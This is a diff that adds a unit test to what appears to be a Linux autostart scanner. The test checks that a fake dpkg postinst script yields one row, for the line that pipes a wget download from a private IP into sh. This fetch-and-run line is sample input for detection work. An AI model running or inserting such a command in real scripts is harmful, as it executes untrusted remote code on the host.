@@ -57,6 +57,18 @@ TEST(LinuxProgram, BinariesEmptyScriptsAndBackupsAreTold)
     EXPECT_EQ(rows[3].at("path"), "/home/h/p/.git/hooks/pre-commit");
 }
 
+// covers: L31
+TEST(LinuxProgram, OfMaintainerScriptsOnlyOddLinesAreRows)
+{
+    test::CollectingContext collected;
+    parse_all(
+        "#!/bin/sh\nadduser --system x\nwget -qO- http://10.0.0.1 | sh\n", "/var/lib/dpkg/info/x.postinst", collected);
+    auto const rows = collected.rows("linux.autostart");
+    ASSERT_EQ(rows.size(), 1U);
+    EXPECT_EQ(rows[0].at("kind"), "package_script");
+    EXPECT_EQ(rows[0].at("line"), "3");
+}
+
 TEST(LinuxProgram, SamplesOfGitAndReadmesAreLeftAlone)
 {
     EXPECT_EQ(parser.sniff(as_bytes("#!/bin/sh\n"), "/x/.git/hooks/pre-commit.sample"), Sniff::no);
